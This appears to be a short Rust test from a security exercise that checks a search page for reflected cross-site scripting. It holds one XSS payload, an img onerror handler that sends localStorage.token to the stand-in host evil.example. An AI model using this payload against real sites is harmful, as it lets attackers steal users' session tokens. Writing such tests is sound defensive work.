//! A search term that is an image with a handler (step 1).
//!
//! samples: bad 1, good 1

use attack::{attack, done, quoted, used};
use axum::extract::Query;
use axum::response::Html;

const PAYLOAD: &str = r#"<img src=x onerror="fetch('https://evil.example/'+localStorage.token)">"#;

fn page(term: &str) -> String {
    let Html(page) = done(crate::search(Query(crate::Search { term: term.to_owned() })));
    page
}

pub fn run() {
    used(page("tea"));
    used(page("O'Brien's"));
    let page = page(quoted(PAYLOAD));
    attack(page.contains(PAYLOAD), page);
}
